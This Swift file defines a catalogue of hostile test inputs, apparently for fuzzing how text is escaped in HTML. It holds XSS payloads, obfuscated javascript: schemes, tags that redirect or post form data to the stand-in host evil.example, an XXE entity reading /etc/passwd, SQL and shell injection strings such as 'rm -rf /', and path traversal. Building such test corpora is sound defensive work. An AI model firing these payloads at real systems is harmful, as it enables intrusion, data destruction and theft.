/// Texts that try to be more than text, built from parts: what ends the place in which a text stands, and what does
/// harm behind it.
enum Payloads {
  /// What ends a value, an element, a string, a comment, a script.
  static let ends = [
    "\"", "'", ">", "\">", "'>", "\" ", "' ", "-->", "]]>", "</title>", "</script>", "</textarea>",
    "</p></div></main>", "\\\"", "\\u0022>", "&quot;>", "&#34;&#62;", "`>", "\"}]}",
  ]

  /// What would run, load, restyle, lead away or change the page's structure.
  static let harms = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
    "onmouseover=alert(1) x=", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<style>@import'//evil.example/'</style>", "<form action=//evil.example/><input name=id>",
    "<!--", "<![CDATA[", "<a href=javascript:alert(1)>x</a>",
  ]

  /// Schemes that run, written as filters miss them.
  static let schemes = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)",
    "\u{1}javascript:alert(1)", " javascript:alert(1)", "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "&#0000106avascript:alert(1)",
    "java&Tab;script:alert(1)", "javascript\u{200B}:alert(1)", "javascript:/*--></title>*/alert(1)",
    "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=",
    "vbscript:msgbox(1)", "livescript:alert(1)", "//evil.example/", "\\\\evil.example\\",
    "https:evil.example", "blob:https://evil.example/1", "view-source:javascript:alert(1)",
  ]

  /// Marks that join what they follow into one `Character`, which then is no quote and no bracket.
  static let joined: [String] = {
    let marks = ["\u{301}", "\u{338}", "\u{FE0F}", "\u{E0100}"]
    let signs = ["\"", "'", "<", ">", "&", "=", "`", "/", "\\"]
    return marks.flatMap { mark in
      signs.map { "\($0)\(mark)><\(mark)script>alert(1)</script> x=\"\(mark)" }
    }
  }()

  /// Texts of other languages: templates, XML, SQL, shells, formats, lines of JavaScript.
  static let languages = [
    "{{site.title}}", "{{{site.title}}}", "{{&site.title}}", "{{>header}}", "{{#a}}{{/a}}",
    "{{=<% %>=}}", "{% include x %}", "${alert(1)}", "#{alert(1)}", "<%= alert(1) %>", "<?php a ?>",
    "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]>&b;",
    "&b;", "&lt;script&gt;", "&amp;lt;script&amp;gt;", "&#60;script&#62;", "&lt", "&", "&&amp;",
    "&;",
    "&nbsp;&NotEqualTilde;", "&#xD800;", "&#0;", "%3Cscript%3E", "%00", "\\u003cscript\\u003e",
    "\\x3cscript\\x3e", "\\ud83d", "\\ude00\\ud83d", "\\u2028", "' OR '1'='1' --",
    "'; DROP TABLE guides; --", "$(reboot)", "`reboot`", "| rm -rf /", "=cmd|'/C calc'!A0",
    "@SUM(1+1)", "%s%n%x", "../../../../etc/passwd", "__proto__", "constructor", "NaN", "null",
    "bianminSearch(\"d0\",alert(1));", "\");alert(1);//", "END:VEVENT", "\\n\\r",
  ]

  /// Characters that are not seen, turn the line around, or are none.
  static let unseen = [
    "a\u{0}b<script>", "\u{0}", "a\u{8}\u{B}\u{C}b", "a\u{1B}[31mb", "a\u{7F}b", "a\u{85}b",
    "a\u{9F}b",
    "a\u{2028}<script>", "a\u{2029}<script>", "\u{202E}tpircs<", "\u{2066}<b>\u{2069}",
    "\u{200F}\"",
    "\u{200B}<\u{200B}script\u{200B}>", "\u{FEFF}<script>", "a\u{FFFE}b\u{FFFF}<", "\u{FFFD}<",
    "\u{10FFFF}\"", "\u{E0041}<", "\u{AD}<script>", "\u{FF1C}script\u{FF1E}", "\u{FF02}onload=",
    "\u{2039}script\u{203A}", "\u{1F468}\u{200D}\u{1F469}<", "e\u{301}\"", "\u{1112}\u{1161}<",
    "\u{0C95}\u{0CCD}\u{200C}<", "\u{0130}<\u{0131}", "\u{212A}<", "\u{1E9E}<",
    "\u{3000}<b>\u{3000}",
    String(repeating: "\u{301}", count: 60) + "\"<", "<" + String(repeating: "\u{338}", count: 60),
    "\r\n<script>", "a\r\"b",
  ]

  static let all: [String] =
    ends.flatMap { end in harms.map { end + $0 } } + schemes + joined + languages + unseen
}
